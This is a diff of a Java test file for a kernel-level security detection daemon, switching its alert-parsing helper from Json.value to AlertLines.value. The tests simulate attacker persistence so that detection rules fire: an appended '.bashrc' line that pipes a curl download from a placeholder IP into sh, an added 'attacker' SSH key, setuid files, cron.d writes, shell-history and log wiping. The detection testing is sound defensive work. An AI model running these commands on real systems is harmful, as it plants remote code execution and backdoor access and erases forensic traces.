@@ -3,6 +3,7 @@ package dev.peregrine.probe.detections;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 
 import dev.peregrine.probe.bpf.RequiresBpf;
+import dev.peregrine.probe.daemon.AlertLines;
 
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -35,8 +36,8 @@ class PersistenceDetectionsTest extends DetectionTest {
     void scriptWritesBelowEtc() throws Exception {
         writeAndRemove(null, Path.of("/etc", m));
         String alert = daemon.await("Write below /etc by untrusted program", m);
-        assertEquals("/etc/" + m, Json.value(alert, "fd.name"));
-        assertEquals("Error", Json.value(alert, "priority"));
+        assertEquals("/etc/" + m, AlertLines.value(alert, "fd.name"));
+        assertEquals("Error", AlertLines.value(alert, "priority"));
     }
 
     @Test
@@ -64,9 +65,9 @@ class PersistenceDetectionsTest extends DetectionTest {
     @Triggers({"Write below binary dir", "Modify binary dirs"})
     void scriptReplacesABinary() throws Exception {
         replaceABinary(null);
-        assertEquals("/usr/bin/" + m, Json.value(daemon.await("Write below binary dir", m), "fd.name"));
+        assertEquals("/usr/bin/" + m, AlertLines.value(daemon.await("Write below binary dir", m), "fd.name"));
         String rename = daemon.await("Modify binary dirs", m + "-old");
-        assertEquals("/usr/bin/" + m, Json.value(rename, "evt.abspath"));
+        assertEquals("/usr/bin/" + m, AlertLines.value(rename, "evt.abspath"));
     }
 
     @Test
@@ -92,7 +93,7 @@ class PersistenceDetectionsTest extends DetectionTest {
     @Triggers("Mkdir binary dirs")
     void scriptMakesADirectoryInBin() throws Exception {
         mkdirInBin(null);
-        assertEquals("/usr/bin/" + m, Json.value(daemon.await("Mkdir binary dirs", m), "evt.abspath"));
+        assertEquals("/usr/bin/" + m, AlertLines.value(daemon.await("Mkdir binary dirs", m), "evt.abspath"));
     }
 
     @Test
@@ -108,7 +109,7 @@ class PersistenceDetectionsTest extends DetectionTest {
         Path file = Files.writeString(tmp.resolve(m), "x");
         Run.ok("chmod", "u+s,g+s", file.toString());
         String alert = daemon.await("Set setuid or setgid bit", m);
-        assertEquals("06644", Json.value(alert, "evt.arg.mode"));
+        assertEquals("06644", AlertLines.value(alert, "evt.arg.mode"));
     }
 
     @Test
@@ -123,7 +124,7 @@ class PersistenceDetectionsTest extends DetectionTest {
     @Triggers("Create files below dev")
     void fileCreatedInDev() throws Exception {
         writeAndRemove(null, Path.of("/dev", m));
-        assertEquals("/dev/" + m, Json.value(daemon.await("Create files below dev", m), "fd.name"));
+        assertEquals("/dev/" + m, AlertLines.value(daemon.await("Create files below dev", m), "fd.name"));
     }
 
     @Test
@@ -139,7 +140,7 @@ class PersistenceDetectionsTest extends DetectionTest {
     void scriptAppendsToBashrc() throws Exception {
         Path home = Files.createDirectory(tmp.resolve(m));
         Run.py(m, "open('" + home + "/.bashrc', 'a').write('curl http://203.0.113.7/x | sh\\n')\n");
-        assertEquals(home + "/.bashrc", Json.value(daemon.await("Modify shell configuration file", m), "fd.name"));
+        assertEquals(home + "/.bashrc", AlertLines.value(daemon.await("Modify shell configuration file", m), "fd.name"));
     }
 
     @Test
@@ -156,7 +157,7 @@ class PersistenceDetectionsTest extends DetectionTest {
     void scriptWritesCronD() throws Exception {
         // The entry is a comment only, and removed at once: even a running cron would have nothing to run.
         writeAndRemove(null, Path.of("/etc/cron.d", m));
-        assertEquals("/etc/cron.d/" + m, Json.value(daemon.await("Schedule cron jobs", m), "fd.name"));
+        assertEquals("/etc/cron.d/" + m, AlertLines.value(daemon.await("Schedule cron jobs", m), "fd.name"));
     }
 
     @Test
@@ -173,7 +174,7 @@ class PersistenceDetectionsTest extends DetectionTest {
         Path ssh = Files.createDirectories(tmp.resolve(m).resolve(".ssh"));
         Run.py(m, "open('" + ssh + "/authorized_keys', 'a').write('ssh-ed25519 AAAA attacker\\n')\n");
         assertEquals(ssh + "/authorized_keys",
-                Json.value(daemon.await("Adding ssh keys to authorized_keys", m), "fd.name"));
+                AlertLines.value(daemon.await("Adding ssh keys to authorized_keys", m), "fd.name"));
     }
 
     @Test
@@ -193,8 +194,8 @@ class PersistenceDetectionsTest extends DetectionTest {
         String m2 = Marker.next();
         Path home2 = Files.createDirectory(tmp.resolve(m2));
         Run.ok("ln", "-s", "/dev/null", home2.resolve(".zsh_history").toString());
-        assertEquals("rm", Json.value(daemon.await("Delete or rename shell history", m), "proc.name"));
-        assertEquals("ln", Json.value(daemon.await("Delete or rename shell history", m2), "proc.name"));
+        assertEquals("rm", AlertLines.value(daemon.await("Delete or rename shell history", m), "proc.name"));
+        assertEquals("ln", AlertLines.value(daemon.await("Delete or rename shell history", m2), "proc.name"));
     }
 
     @Test
@@ -215,7 +216,7 @@ class PersistenceDetectionsTest extends DetectionTest {
             Files.writeString(log, "sshd: Accepted password for root\n");
             Run.py(m, "open('" + log + "', 'w').close()\n");
             String alert = daemon.await("Log file cleared", m);
-            assertEquals(log.toString(), Json.value(alert, "fd.name"));
+            assertEquals(log.toString(), AlertLines.value(alert, "fd.name"));
             assertEquals(0, Files.size(log));
         } finally {
             Files.deleteIfExists(log);
